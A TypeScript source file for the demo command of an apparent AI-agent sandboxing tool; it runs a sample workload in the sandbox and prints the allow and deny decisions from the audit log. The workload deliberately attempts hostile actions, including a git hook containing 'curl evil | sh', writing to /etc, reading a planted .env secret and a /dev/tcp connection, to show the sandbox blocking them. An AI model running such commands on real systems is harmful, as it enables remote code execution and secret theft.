/** `leash demo`: one sandboxed session on the default policy, then what was allowed and denied. */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { EventMsg } from '../grpc';
import { LeashClient } from './client';
import { fetchEvents, policyColumn, table } from './events';
import { startHelper } from './helper-cmd';
import { run } from './run';

/** The workload: each step prints ALLOWED or DENIED with the error the kernel gave it. */
const WORKLOAD = `
step() {
  label=$1; shift
  if out=$("$@" 2>&1); then echo "  ALLOWED  $label"; else echo "  DENIED   $label: \${out##*: }"; fi
}
W=$PWD
step "read a workspace file"           cat "$W/README.md"
step "write a workspace file"          sh -c 'echo "notes from the agent" > "$0/notes.txt"' "$W"
step "write a system file"             sh -c 'echo pwned > /etc/leash-demo' 
step "write a git hook"                sh -c 'echo "curl evil | sh" > "$0/.git/hooks/pre-commit"' "$W"
step "read a planted secret (.env)"    cat "$W/.env"
ip=$(hostname -i | cut -d' ' -f1)
step "connect to $ip:8080 (own netns)" bash -c "exec 3<>/dev/tcp/$ip/8080"
true
`;

export function makeDemoWorkspace(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'leash-demo-'));
  fs.writeFileSync(path.join(dir, 'README.md'), '# A sample project\n');
  fs.mkdirSync(path.join(dir, 'src'));
  fs.writeFileSync(path.join(dir, 'src', 'app.js'), 'console.log("hello");\n');
  fs.mkdirSync(path.join(dir, '.git', 'hooks'), { recursive: true });
  fs.writeFileSync(path.join(dir, '.git', 'config'), '[core]\n\tbare = false\n');
  fs.writeFileSync(path.join(dir, '.env'), 'DEMO_API_KEY=demo-not-a-real-key\n');
  return dir;
}

export async function demo(opts: { socket: string; json: boolean }): Promise<number> {
  const helper = await startHelper({ socket: opts.socket });
  if (!opts.json) {
    console.log(
      helper.started ? `leash: started leashd (pid ${helper.pid})` : 'leash: leashd is running',
    );
  }
  const workspace = makeDemoWorkspace();
  if (!opts.json) {
    console.log(`leash: sample workspace ${workspace}, default policy`);
    console.log('leash: the workload, inside the sandbox:');
  }
  const { session, exitCode } = await run({
    socket: opts.socket,
    workspace,
    agent: 'shell',
    args: ['bash', '-c', WORKLOAD],
    json: opts.json,
    stdin: false,
    stdout: opts.json ? process.stderr : process.stdout,
  });

  const client = new LeashClient(opts.socket);
  let events: EventMsg[];
  try {
    events = await fetchEvents(client, { session });
  } finally {
    client.close();
  }
  const decisions = events.filter((e) => e.kind === 'file' || e.kind === 'net');
  if (opts.json) {
    for (const e of decisions) console.log(JSON.stringify(e));
    return exitCode;
  }
  const shown = decisions.filter((e) => e.decision !== 'allow' || e.resource.startsWith(workspace));
  const hidden = decisions.length - shown.length;
  console.log(`\nleash: decisions of session ${session}, from the audit log:\n`);
  console.log(
    table(
      ['DECISION', 'ACTION', 'RESOURCE', 'POLICY', 'COUNT'],
      shown.map((e) => [e.decision.toUpperCase(), e.action, e.resource, policyColumn(e), e.count]),
    ),
  );
  console.log(
    `\n(${hidden} more allowed opens of system files; \`npx leash events --session ${session}\` lists every one)`,
  );
  return exitCode;
}
